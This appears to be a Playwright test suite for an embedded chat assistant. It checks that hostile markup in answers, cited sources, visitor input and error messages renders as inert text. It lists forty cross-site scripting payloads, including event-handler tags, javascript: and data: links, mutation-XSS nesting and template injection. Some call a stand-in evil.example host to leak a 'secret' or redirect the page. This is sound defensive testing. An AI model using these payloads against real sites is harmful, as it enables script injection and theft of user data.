"""Hostile text in answers and sources: nothing runs, nothing is fetched, nothing is linked that should not be."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import Chat
from tests.browser.stand import Stand, answer

OpenChat = Callable[..., Chat]
LOOSE = "default-src * 'unsafe-inline' 'unsafe-eval' data: blob:"  # the policy must not be what saves us
PAYLOADS = [
    "<script>window.hurt=1</script>",
    "<img src=x onerror=window.hurt=1>",
    "<svg/onload=window.hurt=1>",
    "<svg><script>window.hurt=1</script></svg>",
    "<iframe srcdoc='<script>parent.hurt=1</script>'></iframe>",
    "<body onload=window.hurt=1>",
    "<details open ontoggle=window.hurt=1>x</details>",
    "<input autofocus onfocus=window.hurt=1>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.hurt=1>",
    "<a href='javascript:window.hurt=1'>x</a>",
    "[x](javascript:window.hurt=1)",
    "[x](JaVaScRiPt:window.hurt=1)",
    "[x](java\tscript:window.hurt=1)",
    "[x](&#106;avascript:window.hurt=1)",
    "[x](data:text/html,<script>window.hurt=1</script>)",
    "[x](vbscript:window.hurt=1)",
    "[x](\x01javascript:window.hurt=1)",
    "[x](//evil.example/a)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "![x](https://evil.example/?q=secret)",
    "![x](javascript:window.hurt=1)",
    "![x](data:image/svg+xml,<svg onload=window.hurt=1>)",
    '[x](https://ok.example/"onmouseover="window.hurt=1)',
    '<https://ok.example/"><script>window.hurt=1</script>',
    "`<img src=x onerror=window.hurt=1>`",
    "```html\n<script>window.hurt=1</script>\n```",
    "**<img src=x onerror=window.hurt=1>**",
    "- <svg onload=window.hurt=1>",
    "[[1](javascript:window.hurt=1)](javascript:window.hurt=1)",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example><button>x</button></form>",
    "{{constructor.constructor('window.hurt=1')()}}${window.hurt=1}",
    "</textarea></title></style><img src=x onerror=window.hurt=1>",
    "\u202e<img src=x onerror=window.hurt=1>",
    "<img src=x onerror=window.hurt=1",
    "[1](javascript:window.hurt=1) [x][1]\n\n[1]: javascript:window.hurt=1",
]
FORBIDDEN = (
    "script, img, iframe, object, embed, link, meta, base, form form, style, video, audio, [onerror], [onload], [style]"
)


def test_forty_payloads_in_answers_and_sources_stay_text(chat: OpenChat, stand: Stand) -> None:
    stand.csp = LOOSE
    assert len(PAYLOADS) == 40
    for number, payload in enumerate(PAYLOADS):
        hostile = {"n": 1, "chunk": payload, "document": payload, "title": payload, "excerpt": payload, "revision": 1,
                   "page": payload, "url": "javascript:window.hurt=1", "score": 1}  # fmt: skip
        stand.plays[f"q{number}"] = answer(f"{payload} [1]", sources=[hostile], pieces=3, pause=0.001)
    visitor = chat()
    requests: list[str] = []
    visitor.page.on("request", lambda request: requests.append(request.url))
    for number in range(len(PAYLOADS)):
        shown = visitor.settled(visitor.ask(f"q{number}"))
        shown.locator(".card").first.click()
        assert shown.locator(FORBIDDEN).count() == 0, PAYLOADS[number]
    links = visitor.answers.locator("a")
    for href in [links.nth(at).get_attribute("href") or "" for at in range(links.count())]:
        assert href.startswith(("https://ok.example/", "https://evil.example/")), href
    for at in range(links.count()):
        links.nth(at).hover(force=True)
    assert visitor.page.evaluate("window.hurt") is None
    assert [url for url in requests if not url.startswith(stand.url)] == []


def test_hostile_text_of_the_visitor_and_of_errors_stays_text_too(chat: OpenChat, stand: Stand) -> None:
    stand.csp = LOOSE
    play = stand.plays[PAYLOADS[1]] = answer("x")
    play.status, play.problem = 400, {"code": "x", "detail": PAYLOADS[1]}
    visitor = chat(expected=("400",))
    shown = visitor.settled(visitor.ask(PAYLOADS[1]), "failed")
    expect(shown).to_contain_text(PAYLOADS[1])
    assert visitor.page.evaluate("window.hurt") is None


@pytest.mark.parametrize("href", ["https://ok.example/a", "http://ok.example/b?c=d", "mailto:help@ok.example"])
def test_good_links_open_outside_and_give_nothing_away(chat: OpenChat, stand: Stand, href: str) -> None:
    stand.plays["q"] = answer(f"See [the page]({href}).")
    visitor = chat()
    link = visitor.settled(visitor.ask("q")).get_by_role("link", name="the page")
    expect(link).to_have_attribute("href", href)
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(link).to_have_attribute("target", "_blank")


def test_the_strictest_policy_with_trusted_types_leaves_the_console_clean(chat: OpenChat, stand: Stand) -> None:
    stand.plays["q"] = answer(
        "Fine [1].", sources=[{"n": 1, "title": "T", "revision": 1, "chunk": "c", "document": "d"}]
    )
    visitor = chat()  # the page's policy is `STRICT`; a violation would be an error in the console
    visitor.settled(visitor.ask("q"))
    assert visitor.page.evaluate("getComputedStyle(document.querySelector('assistant-chat')).position") == "fixed"


def test_a_script_that_was_tampered_with_does_not_run(open_page: Callable[..., object], stand: Stand) -> None:
    stand.tamper = True
    page = open_page(expected=("integrity", "sha384"))
    page.goto(stand.url)  # type: ignore[attr-defined]
    assert page.locator("assistant-chat").count() == 0  # type: ignore[attr-defined]


def test_the_pages_own_styles_do_not_reach_inside(chat: OpenChat, stand: Stand) -> None:
    stand.csp = LOOSE
    visitor = chat(opened=False)
    visitor.page.add_style_tag(
        content="button, textarea, section { font-size: 3px !important; display: none !important }"
    )
    visitor.open()
    expect(visitor.button("Send")).to_be_visible()
    assert visitor.field.evaluate("node => getComputedStyle(node).fontSize") == "16px"
